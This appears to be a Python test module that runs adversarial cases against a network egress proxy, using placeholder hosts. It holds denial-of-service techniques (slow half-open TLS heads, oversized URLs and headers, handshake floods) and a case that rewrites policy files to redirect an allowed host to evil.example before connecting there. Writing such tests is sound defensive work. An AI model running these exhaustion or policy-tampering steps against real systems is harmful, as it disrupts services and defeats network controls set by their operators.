"""Exhausts, outlasts and reconfigures what stands in the way."""
from attack import *

BUDGET, BUDGETED = 3, "budget.acme.example"


@attack
def budget(mark):
    """More requests than were granted."""
    seen = b""
    for turn in range(BUDGET + 3):
        try:
            seen += ask(mark, f"/spend/{turn}", host=BUDGETED)
        except OSError as error:
            seen += str(error).encode()
    return seen


@attack
def ok_budget(mark):
    return ask(mark, "/spend/ok", host=BUDGETED)


@attack
def long_url(mark):
    """Half a megabyte carried out in a URL."""
    return ask(mark, "/open/" + "QUFB" * 130_000, host=RULES)


@attack
def large_head(mark):
    return ask(mark, "/open/a", host=RULES, headers=["X-A: " + "a" * 100_000])


@attack
def many_headers(mark):
    return ask(mark, "/open/a", host=RULES, headers=[f"X-{n}: a" for n in range(10_000)])


@attack
def slow_heads(mark):
    """Forty heads that do not end, and an ordinary request beside them."""
    held = []
    for _ in range(40):
        try:
            sock = tls(RULES)
            sock.sendall(f"GET /open/a HTTP/1.1\r\nX-Slow: {mark}".encode())
            held.append(sock)
        except OSError:
            break
    began = time.monotonic()
    try:
        seen = ask(mark, "/hello", host=OPEN)
    except OSError as error:
        seen = f"[{type(error).__name__}]".encode()
    for sock in held:
        sock.close()
    return f"{len(held)} held, {time.monotonic() - began:.1f} s ".encode() + seen


@attack
def many_names(mark):
    """Handshakes for many names that are made up, and an ordinary request beside them."""
    def one(number):
        name = f"n{number}x{mark}.wild.example".lower()
        try:
            with secure(reach(name, 443), name) as sock:
                sock.close()
        except OSError:
            pass

    for number in range(60):
        one(number)
    return ask(mark, "/hello", host=OPEN)


@attack
def missing_secret(mark):
    """A secret that is bound to the host, of which the store has no value at the moment."""
    token = os.environ.get("GONE_TOKEN", "")
    open("store-is-down", "w").close()
    time.sleep(2)
    try:
        return ask(mark, "/hello", host="gone.acme.example", headers=[f"X-Gone: {token}"])
    finally:
        os.remove("store-is-down")


@attack
def policy_files(mark):
    """Writes a rule of its own into every file of the policy, and then uses it."""
    state.sent = True
    written = []
    for path in json.loads(os.environ.get("POLICY_FILES", "[]")):
        try:
            with open(path, "r+") as file:
                text = file.read()
                file.seek(0)
                file.write(text.replace("open.acme.example", "evil.example"))
                file.truncate()
            written.append(path)
        except OSError:
            pass
    seen = f"{len(written)} written".encode()
    time.sleep(1)
    with tls(EVIL) as sock:
        return seen + talk(sock, request(mark, "/hello", host=EVIL))


@attack
def pinned(mark):
    """A client that trusts the service's own authority and nothing else."""
    context = ssl.create_default_context(cadata=os.environ.get("PINNED_CA", ""))
    with context.wrap_socket(reach(OPEN, 443), server_hostname=OPEN) as sock:
        return talk(sock, request(mark, "/hello", host=OPEN))
